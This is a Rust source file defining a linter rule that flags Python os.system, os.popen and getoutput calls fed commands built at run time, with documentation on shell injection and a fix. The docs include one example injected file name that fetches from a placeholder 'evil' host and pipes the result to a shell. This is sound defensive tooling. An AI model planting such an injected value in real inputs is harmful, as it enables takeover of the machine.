//! SEC003: a shell command built at run time is run with `os.system`, `os.popen` or the
//! `getoutput` helpers.

use qa_core::Language;

use crate::lang::Call;
use crate::rules::helpers::{arg, is_dynamic};
use crate::rules::{Cx, Hooks, Rule, RuleMeta, declare_rule};

declare_rule! {
    id: "SEC003",
    name: "os-command-call",
    family: Security,
    severity: High,
    languages: &[Language::Python],
    title: "Command built at run time is run through the shell with os.system or os.popen",
    applies_to_tests: false,
    docs: r#"## What it does
Finds `os.system`, `os.popen`, `subprocess.getoutput`, `subprocess.getstatusoutput` and
the Python 2 `commands.getoutput`/`commands.getstatusoutput` called with a command that is
not a fixed string. All of them hand the whole string to `/bin/sh -c` (or `cmd.exe`).

## Why is this bad?
The shell interprets the string: `;`, `&&`, `|`, `$(...)`, backticks and quotes in any
value that was pasted in become extra commands. A file name such as `a.txt; curl evil | sh`
is enough to take over the machine. Quoting by hand is easy to get wrong.

## How to fix
Use `subprocess.run` with a list of arguments (no shell involved, every argument reaches
the program verbatim) and `check=True`. If you really need the shell, quote each value
with `shlex.quote`.

## Example
```python
os.system("tar czf backup.tgz " + directory)
```
Use instead:
```python
subprocess.run(["tar", "czf", "backup.tgz", directory], check=True)
```
"#,
}

pub(crate) struct OsCommandCall;

const SHELL_CALLS: &[&str] = &[
    "os.system",
    "os.popen",
    "os.popen2",
    "os.popen3",
    "os.popen4",
    "subprocess.getoutput",
    "subprocess.getstatusoutput",
    "commands.getoutput",
    "commands.getstatusoutput",
];

impl Rule for OsCommandCall {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn hooks(&self) -> Hooks {
        Hooks::CALL
    }

    fn on_call(&self, call: &Call<'_>, cx: &mut Cx<'_, '_>) {
        if !call.is(SHELL_CALLS) {
            return;
        }
        let Some(cmd) = arg(call, 0, "command")
            .or_else(|| call.keyword("cmd"))
            .filter(|c| is_dynamic(cx, *c))
        else {
            return;
        };
        cx.report(
            cmd,
            format!(
                "`{}` runs a command built at run time through the shell; use subprocess.run with a list of arguments (or shlex.quote each value)",
                call.callee
            ),
        );
    }
}
